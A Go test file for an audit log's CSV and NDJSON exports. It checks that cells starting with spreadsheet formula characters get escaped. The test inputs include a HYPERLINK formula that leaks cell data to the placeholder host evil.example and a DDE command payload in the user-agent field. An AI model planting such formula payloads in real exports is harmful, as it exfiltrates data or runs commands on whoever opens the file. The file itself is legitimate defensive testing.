package audit_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/frontdesk/frontdesk/internal/audit"
	"github.com/frontdesk/frontdesk/internal/db"
)

const hyperlink = `=HYPERLINK("http://evil.example/?d="&A1,"Click for details")`

// writeHostile records entries whose attacker-influenced fields (action,
// target, user agent, request id, personal details) look like spreadsheet
// formulas, one of them for a subject erased afterwards.
func writeHostile(t *testing.T, v *viewer) {
	t.Helper()
	ctx := audit.WithOrigin(audit.WithActor(context.Background(), audit.Actor{ID: "@staff", Kind: audit.ActorStaff, SessionHash: "ab12"}),
		audit.Origin{IP: "192.0.2.7", UserAgent: "-2+3+cmd|' /C calc'!A0", RequestID: "\t=1+1"})
	v.write(t, ctx, audit.Event{Action: hyperlink, Target: "+account:a", Subject: "account:a",
		Details: map[string]any{"note": "=1+1", "n": 2}, Personal: map[string]any{"phone": "+84 90 123 4567"}})
	v.write(t, ctx, audit.Event{Action: "account.update", Target: "account:gone", Subject: "account:gone",
		Personal: map[string]any{"name": "Nguyễn Văn An"}})
	v.write(t, ctx, audit.Event{Action: "account.view", Target: "\r=2"})
	if err := v.d.Write(ctx, func(tx *db.Tx) error { return v.kit.Keys.Destroy(ctx, tx, "account:gone") }); err != nil {
		t.Fatal(err)
	}
}

// ASVS 1.2.10: no cell of an export is read as a formula by a spreadsheet.
func TestWriteCSVEscapesFormulas(t *testing.T) {
	v := newViewer(t)
	writeHostile(t, v)
	var buf bytes.Buffer
	n, err := audit.WriteCSV(context.Background(), &buf, v.d, v.kit.Keys, audit.Filter{})
	if err != nil || n != 3 {
		t.Fatalf("WriteCSV = %d, %v; want 3 entries", n, err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if len(rows) != 4 || !slices.Equal(rows[0], audit.CSVHeader) {
		t.Fatalf("got %d rows, header %q; want 4 rows under %q", len(rows), rows[0], audit.CSVHeader)
	}
	for _, row := range rows[1:] {
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("column %s: cell %q would be read as a formula", audit.CSVHeader[i], cell)
			}
		}
	}
	col := func(row []string, name string) string { return row[slices.Index(audit.CSVHeader, name)] }
	newest, erased, oldest := rows[1], rows[2], rows[3]
	for _, c := range []struct{ got, want string }{
		{col(oldest, "action"), "'" + hyperlink},
		{col(oldest, "target"), "'+account:a"},
		{col(oldest, "actor_id"), "'@staff"},
		{col(oldest, "user_agent"), "'-2+3+cmd|' /C calc'!A0"},
		{col(oldest, "request_id"), "'\t=1+1"},
		{col(oldest, "details"), `{"n":2,"note":"=1+1"}`},
		{col(oldest, "personal"), `{"phone":"+84 90 123 4567"}`},
		{col(oldest, "source_ip"), "192.0.2.7"},
		{col(oldest, "actor_kind"), audit.ActorStaff},
		{col(oldest, "time"), viewerStart.Format(time.RFC3339Nano)},
		{col(erased, "personal"), "erased"},
		{col(newest, "target"), "'\r=2"},
		{col(newest, "personal"), ""},
		{col(newest, "prev_hash"), col(erased, "hash")},
	} {
		if c.got != c.want {
			t.Errorf("cell %q, want %q", c.got, c.want)
		}
	}
	first, _ := strconv.Atoi(col(oldest, "seq"))
	last, _ := strconv.Atoi(col(newest, "seq"))
	if first <= 0 || last <= first {
		t.Errorf("seq columns: newest %s, oldest %s", col(newest, "seq"), col(oldest, "seq"))
	}

	buf.Reset()
	if n, err := audit.WriteCSV(context.Background(), &buf, v.d, v.kit.Keys, audit.Filter{Actor: "nobody"}); err != nil || n != 0 {
		t.Fatalf("empty WriteCSV = %d, %v", n, err)
	}
	if got := buf.String(); got != strings.Join(audit.CSVHeader, ",")+"\n" {
		t.Errorf("an empty export is %q, want the header alone", got)
	}
}

// The viewer's NDJSON is the format of `frontdesk audit export`, newest
// first, and every line parses back.
func TestWriteNDJSONMatchesExport(t *testing.T) {
	v := newViewer(t)
	writeHostile(t, v)
	writeMix(t, v)
	ctx := context.Background()
	var got, export bytes.Buffer
	n, err := audit.WriteNDJSON(ctx, &got, v.d, v.kit.Keys, audit.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := v.kit.Log.Export(ctx, v.d, &export, time.Time{}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(got.String(), "\n"), "\n")
	want := strings.Split(strings.TrimSuffix(export.String(), "\n"), "\n")
	slices.Reverse(want)
	if int(n) != len(lines) || !slices.Equal(lines, want) {
		t.Fatalf("WriteNDJSON (%d entries) differs from the export reversed:\n%s\nwant\n%s", n, got.String(), strings.Join(want, "\n"))
	}
	var prevSeq int64
	for i, line := range lines {
		var x struct {
			Seq      int64           `json:"seq"`
			Time     time.Time       `json:"time"`
			Action   string          `json:"action"`
			Personal json.RawMessage `json:"personal"`
			Hash     string          `json:"hash"`
		}
		if err := json.Unmarshal([]byte(line), &x); err != nil {
			t.Fatalf("line %d does not parse: %v\n%s", i+1, err, line)
		}
		if i > 0 && x.Seq >= prevSeq {
			t.Errorf("line %d: seq %d after %d, want newest first", i+1, x.Seq, prevSeq)
		}
		prevSeq = x.Seq
		if x.Action == hyperlink && string(x.Personal) != `{"phone":"+84 90 123 4567"}` {
			t.Errorf("personal = %s", x.Personal)
		}
		if x.Action == "account.update" && string(x.Personal) != `"erased"` {
			t.Errorf("erased personal = %s", x.Personal)
		}
	}

	got.Reset()
	n, err = audit.WriteNDJSON(ctx, &got, v.d, v.kit.Keys, audit.Filter{Action: "recovery.", ActorKind: audit.ActorStaff, Limit: 3})
	if err != nil || n != 3 || strings.Count(got.String(), "\n") != 3 {
		t.Fatalf("filtered WriteNDJSON = %d, %v:\n%s", n, err, got.String())
	}
	for line := range strings.Lines(got.String()) {
		var x struct {
			Action string                `json:"action"`
			Actor  struct{ Kind string } `json:"actor"`
		}
		if err := json.Unmarshal([]byte(line), &x); err != nil || !strings.HasPrefix(x.Action, "recovery.") || x.Actor.Kind != audit.ActorStaff {
			t.Errorf("line %s does not match the filter (%v)", line, err)
		}
	}
}
